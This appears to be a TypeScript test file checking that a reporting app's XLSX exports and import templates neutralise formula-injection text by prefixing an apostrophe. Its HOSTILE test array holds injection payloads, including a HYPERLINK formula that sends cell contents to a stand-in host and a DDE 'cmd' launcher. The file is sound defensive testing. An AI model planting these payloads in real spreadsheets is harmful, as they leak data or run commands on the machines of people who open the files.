/**
 * Issue 12, finding 22: text that looks like a formula (=HYPERLINK…, +cmd|…)
 * was written into XLSX cells as it was. Every XLSX we write — the year
 * tables, the area list, the import templates — now writes such text with a
 * leading apostrophe (text to Excel, also after a CSV round trip), never a
 * formula; and an import template sent back unchanged changes nothing.
 */
import ExcelJS from 'exceljs';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importTemplate } from '../../src/app/import/templates';
import { importUnits } from '../../src/app/import/units';
import { loadActor } from '../../src/app/auth/sessions';
import { units, users } from '../../src/db/schema';
import { renderAreaList, renderYearTables } from '../../src/documents';
import { looksLikeFormula } from '../../src/documents/xlsx/formula';
import { recognisedAreas, yearReportModel } from '../fixtures/laichau-2024';
import { demoServer } from '../support/server';

const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

/** Every text cell of every sheet, and whether any cell holds a formula. */
async function cells(buffer: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const texts: string[] = [];
  let formulas = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    ),
  );
  return { texts, formulas };
}

function expectNeutral(texts: string[], formulas: number) {
  expect(formulas).toBe(0);
  expect(texts.filter(looksLikeFormula)).toEqual([]);
  // XML reads a carriage return back as a line feed; the apostrophe is what matters.
  for (const h of HOSTILE)
    expect(
      texts.map((t) => t.replace(/\r\n?/g, '\n')),
      h,
    ).toContain(`'${h.replace(/\r/g, '\n')}`);
}

describe('documents', () => {
  it('the area list and the year tables', async () => {
    const rows = recognisedAreas().map((r, i) => ({ ...r, areaName: HOSTILE[i % HOSTILE.length]! }));
    const list = await cells(await renderAreaList(rows));
    expectNeutral(list.texts, list.formulas);
    const model = yearReportModel();
    model.failedCriteria = HOSTILE.map((text, i) => ({ ...model.failedCriteria[0]!, code: `9.${i}`, text, areas: [text] }));
    const tables = await cells(await renderYearTables(model));
    expectNeutral(tables.texts, tables.formulas);
  });

  it('keeps numbers and ordinary text as they are', () => {
    for (const ok of ['-5', '+84', '98,5', '-', 'Tổ dân phố số 5', '2.000.000']) expect(looksLikeFormula(ok), ok).toBe(false);
  });
});

describe('import templates', () => {
  let server: Awaited<ReturnType<typeof demoServer>>;
  beforeAll(async () => {
    server = await demoServer();
  });
  afterAll(async () => {
    await server?.close();
  });

  it('write hostile names as text and read them back unchanged', async () => {
    const [area] = await server.db.select().from(units).where(eq(units.code, 'LC-TP-TANPHONG-TDP05'));
    await server.db.update(units).set({ name: HOSTILE[0]! }).where(eq(units.id, area!.id));
    const [u] = await server.db.select().from(users).where(eq(users.username, 'thanhpho'));
    const actor = (await loadActor(server.db, u!.id))!;
    for (const kind of ['units', 'history', 'scorecards'] as const) {
      const { buffer } = await importTemplate(server.db, actor, { kind, programCode: 'laichau-tqpttd', year: 2026, unitId: area!.parentId! });
      const { texts, formulas } = await cells(buffer);
      expect(formulas, kind).toBe(0);
      expect(texts.filter(looksLikeFormula), kind).toEqual([]);
      if (kind !== 'history') expect(texts, kind).toContain(`'${HOSTILE[0]}`);
    }
    const { buffer } = await importTemplate(server.db, actor, { kind: 'units', unitId: area!.parentId! });
    expect(await importUnits(server.db, actor, buffer, 'mau.xlsx')).toMatchObject({ updated: 0, created: 0 });
  });
});
